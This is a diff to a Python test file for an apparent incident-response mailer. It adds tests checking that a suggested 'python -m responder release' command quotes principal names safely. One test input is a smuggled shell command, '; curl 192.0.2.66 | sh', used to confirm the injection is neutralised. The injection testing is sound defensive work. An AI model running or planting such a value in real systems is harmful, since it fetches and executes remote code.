@@ -132,6 +132,7 @@ def golden_incidents() -> dict[str, Incident]:
         ),
         "ill": given_incident(illness("calls-rule-off")),
         "ill-self-test": given_incident(illness("self-test-failed")),
+        "ill-dead-letters": given_incident(illness("dead-letters")),
         "ill-roster": given_incident(illness("roster-differs")),
         "still-trying": replace(reported(), calls=12, milestone=10, latest=tenth),
         "cannot-contain": reported(**root, **nothing_done),
@@ -310,8 +311,31 @@ def test_no_text_breaks_a_line_or_the_width(
     commands = [line for line in body.splitlines() if line.startswith("  aws iam detach-user-")]
     told = (Disposition.CONTAINED, Disposition.STRIPPED, Disposition.KEPT)
     assert len(commands) == (disposition in told and is_printed(argument))
-    assert all(len(line) <= 72 for line in body.splitlines() if line not in commands)
+    copied = (*commands, *(line for line in body.splitlines() if line.startswith("  python -m ")))
+    assert all(len(line) <= 72 for line in body.splitlines() if line not in copied)
     assert len(body) < 20_000
+
+
+@pytest.mark.parametrize(
+    ("changes", "principal"),
+    [
+        ({}, ["AIDAEXAMPLEMALLORY"]),
+        ({"principal_id": ""}, ["mallory"]),
+        ({"principal_id": "", "principal_name": "it's"}, ["it's"]),
+        ({"principal_id": "; curl 192.0.2.66 | sh"}, ["; curl 192.0.2.66 | sh"]),
+        ({"principal_id": "--yes"}, ["mallory"]),
+        ({"principal_id": "", "principal_name": "-m"}, ["PRINCIPAL"]),
+        ({"principal_id": "", "principal_name": ""}, ["PRINCIPAL"]),
+    ],
+)
+def test_the_release_names_whom_and_is_one_command(
+    changes: dict[str, str], principal: list[str]
+) -> None:
+    body = mail_body(WORDS, reported(**changes))
+    line = next(line for line in body.splitlines() if line.startswith("  python "))
+    assert line.endswith(' --reason "WHY"')
+    told = ["python", "-m", "responder", "release", ACCOUNT, *principal, "--reason", "WHY"]
+    assert shlex.split(line) == told
 
 
 @given(st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=60))
